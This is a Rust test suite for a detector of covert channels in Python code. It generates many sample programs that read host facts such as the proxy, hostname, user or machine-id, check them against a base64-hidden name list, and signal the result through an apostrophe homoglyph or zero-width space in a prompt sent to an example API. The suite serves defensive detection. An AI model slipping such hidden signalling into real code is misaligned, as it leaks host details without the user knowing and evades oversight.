//! Channels in Python: one mechanism after another in a program that is
//! otherwise the same, and the same facts where they decide nothing.

use crate::analyze_source;

/// A program: imports, what the host is asked for, how that is compared, what
/// is chosen and how it leaves.
struct Program {
    top: &'static str,
    fact: &'static str,
    test: &'static str,
    value: &'static str,
    send: &'static str,
}

const BASE: Program = Program {
    top: "",
    fact: "os.environ.get('HTTPS_PROXY', '')",
    test: "here in NAMES",
    value: "f\"Don{'\\u02bc' if odd else chr(39)}t guess what the user wants.\"",
    send: "requests.post(URL, json={'prompt': value, 'input': text})",
};

impl Program {
    fn text(&self) -> String {
        let Self {
            top,
            fact,
            test,
            value,
            send,
        } = self;
        format!(
            r#"import base64
import os
import requests
{top}
URL = "https://api.alpha.example/v1"
NAMES = base64.b64decode("YWxwaGEuZXhhbXBsZSxiZXRhLnRlc3QsZ2FtbWEuZXhhbXBsZS5vcmcsZGVsdGEuZXhhbXBsZS5jb20=").decode().split(",")


def place():
    return {fact}


def listed():
    here = place()
    return {test}


def run(text):
    odd = listed()
    value = {value}
    return {send}
"#
        )
    }
}

/// What a wrong form of a program is told by.
fn channels(text: &str) -> Vec<String> {
    analyze_source("x.py", text)
        .into_iter()
        .filter(|finding| finding.behaviour == "covert.channel")
        .map(|finding| finding.title)
        .collect()
}

fn all_found(programs: impl Iterator<Item = (&'static str, String)>) {
    let missed: Vec<_> = programs
        .filter(|(_, text)| channels(text).is_empty())
        .map(|(name, _)| name)
        .collect();
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

fn none_found(programs: impl Iterator<Item = (&'static str, String)>) {
    let wrong: Vec<_> = programs
        .filter_map(|(name, text)| Some(format!("{name}: {}", channels(&text).first()?)))
        .collect();
    assert!(wrong.is_empty(), "wrong:\n{}", wrong.join("\n"));
}

/// Imports, and what gives a fact about the host.
const FACTS: &[(&str, &str)] = &[
    ("", "os.environ['HTTPS_PROXY']"),
    ("", "os.getenv('HTTPS_PROXY', '')"),
    ("", "(os.environ.get('ALL_PROXY') or '').lower().strip()"),
    ("", "os.environ.copy().get('HTTPS_PROXY', '')"),
    ("", "{**os.environ}['HTTPS_PROXY']"),
    (
        "from os import environ",
        "environ['HTTPS_PROXY'].split('@')[-1]",
    ),
    (
        "from urllib.parse import urlsplit",
        "urlsplit(os.environ['HTTPS_PROXY']).hostname",
    ),
    (
        "import urllib.request",
        "urllib.request.getproxies().get('https', '')",
    ),
    ("import socket", "socket.gethostname()"),
    ("import socket", "socket.getfqdn().partition('.')[2]"),
    ("import platform", "platform.node()"),
    ("import platform", "platform.uname().node"),
    ("", "os.uname().nodename"),
    ("import getpass", "getpass.getuser()"),
    ("", "os.getlogin()"),
    ("import pwd", "pwd.getpwuid(os.getuid()).pw_name"),
    ("import time", "time.tzname[0]"),
    ("import time", "time.strftime('%Z')"),
    (
        "import datetime",
        "datetime.datetime.now().astimezone().tzname()",
    ),
    (
        "from datetime import datetime",
        "str(datetime.now().astimezone().tzinfo)",
    ),
    ("import tzlocal", "tzlocal.get_localzone_name()"),
    ("import tzlocal", "str(tzlocal.get_localzone())"),
    ("", "os.readlink('/etc/localtime').split('zoneinfo/')[-1]"),
    (
        "from pathlib import Path",
        "str(Path('/etc/localtime').resolve())",
    ),
    (
        "from pathlib import Path",
        "Path('/etc/timezone').read_text().strip()",
    ),
    ("import locale", "locale.getlocale()[0]"),
    ("import locale", "locale.getdefaultlocale()[0]"),
    (
        "import subprocess",
        "subprocess.check_output(['hostname', '-f'], text=True).strip()",
    ),
    (
        "import subprocess",
        "subprocess.run(['hostname', '-f'], capture_output=True, text=True).stdout.strip()",
    ),
    ("import uuid", "f'{uuid.getnode():012x}'"),
    ("", "open('/etc/machine-id').read().strip()"),
];

/// How a fact is compared with the names.
const TESTS: &[(&str, &str)] = &[
    ("", "here in NAMES"),
    ("", "here in set(NAMES)"),
    ("", "here in frozenset(name.lower() for name in NAMES)"),
    ("", "any(here.endswith('.' + name) for name in NAMES)"),
    ("", "any(map(here.endswith, NAMES))"),
    ("", "here.endswith(tuple(NAMES))"),
    ("", "not all(name != here for name in NAMES)"),
    ("", "bool([name for name in NAMES if name == here])"),
    (
        "",
        "len(list(filter(lambda name: name == here, NAMES))) > 0",
    ),
    ("", "next((True for name in NAMES if name in here), False)"),
    (
        "",
        "next((name for name in NAMES if name == here), None) is not None",
    ),
    ("", "NAMES.count(here) > 0"),
    ("", "bool({here} & set(NAMES))"),
    ("", "not set(NAMES).isdisjoint({here})"),
    ("", "bool(set(NAMES).intersection([here]))"),
    ("", "{name: True for name in NAMES}.get(here, False)"),
    ("", "dict.fromkeys(NAMES, True).get(here) is True"),
    ("", "sum(name == here for name in NAMES) > 0"),
    ("", "max(map(lambda name: name == here, NAMES))"),
    ("", "(lambda host, names: host in names)(here, NAMES)"),
    ("import operator", "operator.contains(NAMES, here)"),
    (
        "import functools",
        "functools.reduce(lambda known, name: known or name == here, NAMES, False)",
    ),
    (
        "import re",
        "re.search('|'.join(map(re.escape, NAMES)), here) is not None",
    ),
    (
        "import re",
        "bool(re.compile('|'.join(NAMES)).fullmatch(here))",
    ),
    (
        "import fnmatch",
        "any(fnmatch.fnmatch(here, '*.' + name) for name in NAMES)",
    ),
    (
        "import hashlib",
        "hashlib.sha256(here.encode()).hexdigest() in {hashlib.sha256(name.encode()).hexdigest() for name in NAMES}",
    ),
    (
        r#"
def find(text, names):
    try:
        names.index(text)
        return True
    except ValueError:
        return False
"#,
        "find(here, NAMES)",
    ),
    (
        r#"
def find(text, names):
    table = {name: True for name in names}
    try:
        table[text]
    except KeyError:
        return False
    else:
        return True
"#,
        "find(here, NAMES)",
    ),
    (
        r#"
def find(text, names):
    for number, name in enumerate(names):
        if text == name:
            break
    else:
        return False
    return True
"#,
        "find(here, NAMES)",
    ),
    (
        r#"
class Listed(Exception):
    pass

def check(text, names):
    if text in names:
        raise Listed(text)

def find(text, names):
    try:
        check(text, names)
    except Listed:
        return True
    return False
"#,
        "find(here, NAMES)",
    ),
    (
        r#"
def find(text, names):
    found = False
    while names:
        found |= names[-1] == text
        names = names[:-1]
    return found
"#,
        "find(here, NAMES)",
    ),
];

/// How a mark is chosen and put into a sentence.
const VALUES: &[&str] = &[
    r#""Don" + ("\u02bc" if odd else "'") + "t guess what the user wants.""#,
    r#""Don%st guess what the user wants." % ("'", "\u02bc")[odd]"#,
    r#""Don{}t guess what the user wants.".format({True: "\u02bc", False: "'"}[odd])"#,
    r#""Don{mark}t guess what the user wants.".format(mark={True: "\u02bc"}.get(odd, "'"))"#,
    r#""".join(["Don", ["'", "\u02bc"][int(odd)], "t guess what the user wants."])"#,
    r#"("'", "\u02bc")[bool(odd)].join(["Don", "t guess what the user wants."])"#,
    r#"f"Don{odd and chr(0x2bc) or chr(39)}t guess what the user wants.""#,
    r#""Don't guess what the user wants.".replace("'", "\u02bc") if odd else "Don't guess what the user wants.""#,
    r#"f"Don{'\u02bc' * odd or chr(39)}t guess what the user wants.""#,
    r#"(lambda mark: f"Don{mark}t guess what the user wants.")("\u02bc" if odd else "'")"#,
    r#""Don@t guess what the user wants.".replace("@", "\u02bc" if odd else "'")"#,
    r#""Do not guess." + "\u200b" * int(odd)"#,
    r#"["Don't guess what the user wants.", "Don\u02bct guess what the user wants."][odd]"#,
];

/// How a value leaves.
const SENDS: &[(&str, &str)] = &[
    ("", "requests.post(URL, json={'prompt': value})"),
    (
        "",
        "requests.post(URL, data={'a': value, 'b': text}).json()",
    ),
    ("", "requests.get(URL, params={'q': value})"),
    (
        "",
        "requests.request('POST', URL, headers={'X-Client': value}, json={'text': text})",
    ),
    ("", "requests.Session().post(URL, json=dict(a=value))"),
    (
        "import httpx",
        "httpx.Client(timeout=10).post(URL, content=value.encode())",
    ),
    (
        "import httpx",
        "httpx.stream('POST', URL, json={'a': value})",
    ),
    (
        "import urllib.request",
        "urllib.request.urlopen(urllib.request.Request(URL, data=value.encode('utf-8')))",
    ),
    (
        "from urllib.request import urlopen\nfrom urllib.parse import urlencode, quote",
        "urlopen(URL + '?' + urlencode({'q': value}))",
    ),
    (
        "from urllib.request import urlopen\nfrom urllib.parse import urlencode, quote",
        "urlopen(f'{URL}?q={quote(value)}')",
    ),
    (
        "import http.client\nimport json\nlink = http.client.HTTPSConnection('api.alpha.example')",
        "link.request('POST', '/v1', json.dumps({'a': value}))",
    ),
    (
        "import socket\ns = socket.create_connection(('api.alpha.example', 443))",
        "s.sendall(value.encode())",
    ),
    (
        "import websocket",
        "websocket.create_connection(URL).send(value)",
    ),
    (
        "import subprocess",
        "subprocess.run(['worker'], env={**os.environ, 'NOTE': value})",
    ),
    (
        "import subprocess",
        "subprocess.Popen(['worker', '--note', value])",
    ),
    (
        "",
        "[{'role': 'system', 'content': value}, {'role': 'user', 'content': text}]",
    ),
    (
        "import aiohttp\nasync def ask(value):\n    async with aiohttp.ClientSession() as session:\n        async with session.post(URL, json={'a': value}) as answer:\n            return await answer.json()\n",
        "ask(value)",
    ),
    (
        "from websockets.sync.client import connect\ndef push(line):\n    with connect(URL) as link:\n        link.send(line)\n",
        "push(value)",
    ),
    (
        "class Client:\n    def __init__(self):\n        self.session = requests.Session()\n        self.session.headers['X-Client'] = 'a'\n    def ask(self, text):\n        return self.session.post(URL, json={'a': text})\n",
        "Client().ask(value)",
    ),
];

#[test]
fn facts_are_followed() {
    all_found(
        FACTS
            .iter()
            .map(|(top, fact)| (*fact, Program { top, fact, ..BASE }.text())),
    );
}

#[test]
fn comparisons_are_followed() {
    all_found(TESTS.iter().map(|(top, test)| {
        let name = if test.starts_with("find(") { top } else { test };
        (*name, Program { top, test, ..BASE }.text())
    }));
}

#[test]
fn choices_are_followed() {
    all_found(
        VALUES
            .iter()
            .map(|value| (*value, Program { value, ..BASE }.text())),
    );
}

#[test]
fn outputs_are_followed() {
    all_found(
        SENDS
            .iter()
            .map(|(top, send)| (*send, Program { top, send, ..BASE }.text())),
    );
}

/// The same programs, where the fact is shown to who sits at the terminal and
/// something else decides.
#[test]
fn what_is_only_shown_decides_nothing() {
    let shown = |fact: &'static str, test: &'static str, top: &'static str| {
        let text = Program {
            top,
            fact,
            test: "TEST",
            ..BASE
        }
        .text();
        text.replace(
            "return TEST",
            &format!(
                "print('listed' if {test} else 'not listed')\n    return (print('by the proxy' if {test} else 'directly'), 'x' in URL)[0] is None and SETTINGS"
            ),
        )
        .replace("def place", "SETTINGS = False\n\n\ndef configure(odd):\n    global SETTINGS\n    SETTINGS = odd\n\n\ndef place")
    };
    none_found(
        TESTS
            .iter()
            .map(|(top, test)| (*test, shown(BASE.fact, test, top))),
    );
    none_found(
        FACTS
            .iter()
            .map(|(top, fact)| (*fact, shown(fact, BASE.test, top))),
    );
}

/// Programs in which the same facts are read, shown or obeyed.
const OPEN: &[(&str, &str)] = &[
    (
        "a log line",
        r#"
import logging

def run(text):
    logging.getLogger(__name__).info("through %s", "\u201ca proxy\u201d" if listed() else "nothing")
    return requests.post(URL, json={"prompt": f"Answer in {len(text)} words."})
"#,
    ),
    (
        "a timeout",
        r#"
def run(text):
    return requests.post(URL, json={"prompt": text}, timeout=60 if listed() else 10)
"#,
    ),
    (
        "an error that the user reads",
        r#"
def run(text):
    if listed():
        raise RuntimeError("The proxy isn\u2019t known.")
    return requests.post(URL, json={"prompt": text})
"#,
    ),
    (
        "a name asked for with get, beside the one that the fact is under",
        r#"
def look():
    return {"odd": listed(), "curly": OPTIONS.get("curly", False)}

OPTIONS = {}

def run(text):
    mark = "\u02bc" if look().get("curly", False) else "'"
    return requests.post(URL, json={"prompt": f"Don{mark}t guess what the user wants."})
"#,
    ),
    (
        "a file that is read where the fact is known, in a handler",
        r#"
def run(text):
    try:
        name = place()
    except OSError:
        name = ""
    print("at", name)
    try:
        mark = text.index("'") and "'"
    except ValueError:
        mark = "\u02bc"
    return requests.post(URL, json={"prompt": f"Don{mark}t guess what the user wants."})
"#,
    ),
];

#[test]
fn open_uses_are_no_channels() {
    let before = Program { ..BASE }.text();
    let before = before.split("def run").next().unwrap();
    none_found(
        OPEN.iter()
            .map(|(name, rest)| (*name, format!("{before}{rest}"))),
    );
}

/// Programs whose parts stand otherwise; `DECIDED` is the comparison.
const SHAPES: &[(&str, &str)] = &[
    (
        "a dataclass",
        r#"
from dataclasses import dataclass, field

@dataclass
class State:
    odd: bool = False
    name: str = ""

def look():
    return State(odd=listed(), name="a")

def run(text):
    state = look()
    return send("\u02bc" if state.odd else "'")
"#,
    ),
    (
        "a named tuple",
        r#"
from typing import NamedTuple

class State(NamedTuple):
    name: str
    odd: bool

def run(text):
    state = State("a", listed())
    return send("\u02bc" if state.odd else "'")
"#,
    ),
    (
        "a pair that is returned",
        r#"
def look():
    return "a", listed()

def run(text):
    name, odd = look()
    return send("\u02bc" if odd else "'")
"#,
    ),
    (
        "a dictionary asked with get",
        r#"
def look():
    return {"name": "a", "odd": listed()}

def run(text):
    return send("\u02bc" if look().get("odd") else "'")
"#,
    ),
    (
        "a context manager",
        r#"
from contextlib import contextmanager

@contextmanager
def look():
    yield listed()

def run(text):
    with look() as odd:
        return send("\u02bc" if odd else "'")
"#,
    ),
    (
        "a closure with nonlocal",
        r#"
def maker():
    known = None
    def look():
        nonlocal known
        if known is None:
            known = listed()
        return known
    return look

look = maker()

def run(text):
    return send("\u02bc" if look() else "'")
"#,
    ),
    (
        "a decorator of the module",
        r#"
import functools

def once(function):
    kept = []
    @functools.wraps(function)
    def inner(*args):
        if not kept:
            kept.append(function(*args))
        return kept[0]
    return inner

@once
def look():
    return listed()

def run(text):
    return send("\u02bc" if look() else "'")
"#,
    ),
    (
        "a partial call",
        r#"
import functools

def mark(odd, text):
    return "\u02bc" if odd else "'"

def run(text):
    chosen = functools.partial(mark, listed())
    return send(chosen(text))
"#,
    ),
    (
        "a cache",
        r#"
import functools

@functools.lru_cache(maxsize=1)
def look():
    return listed()

def run(text):
    if look():
        mark = "\u02bc"
    else:
        mark = "'"
    return send(mark)
"#,
    ),
    (
        "match",
        r#"
def run(text):
    match listed():
        case True:
            mark = "\u02bc"
        case _:
            mark = "'"
    return send(mark)
"#,
    ),
    (
        "a name that is assigned in the test",
        r#"
def run(text):
    mark = "'"
    if odd := listed():
        mark = "\u02bc"
    return send(mark)
"#,
    ),
    (
        "asyncio.gather",
        r#"
import asyncio

async def look():
    await asyncio.sleep(0)
    return {"odd": listed()}

async def main():
    state, _ = await asyncio.gather(look(), asyncio.sleep(0))
    return send("\u02bc" if state["odd"] else "'")

def run(text):
    asyncio.run(main())
"#,
    ),
    (
        "another thread",
        r#"
from concurrent.futures import ThreadPoolExecutor

def run(text):
    with ThreadPoolExecutor() as pool:
        odd = pool.submit(listed).result()
    return send("\u02bc" if odd else "'")
"#,
    ),
    (
        "arguments by name",
        r#"
def mark(**options):
    return "\u02bc" if options["odd"] else "'"

def run(text):
    return send(mark(odd=listed()))
"#,
    ),
    (
        "an exception that is raised",
        r#"
def check():
    if listed():
        raise LookupError("a")

def run(text):
    try:
        check()
        mark = "'"
    except LookupError:
        mark = "\u02bc"
    return send(mark)
"#,
    ),
];

#[test]
fn shapes_are_followed() {
    let before = Program { ..BASE }.text();
    let before = before.split("def run").next().unwrap();
    let send = "\n\ndef send(mark):\n    return requests.post(URL, json={'prompt': f\"Don{mark}t guess what the user wants.\"})\n";
    all_found(
        SHAPES
            .iter()
            .map(|(name, rest)| (*name, format!("{before}{send}{rest}"))),
    );
}
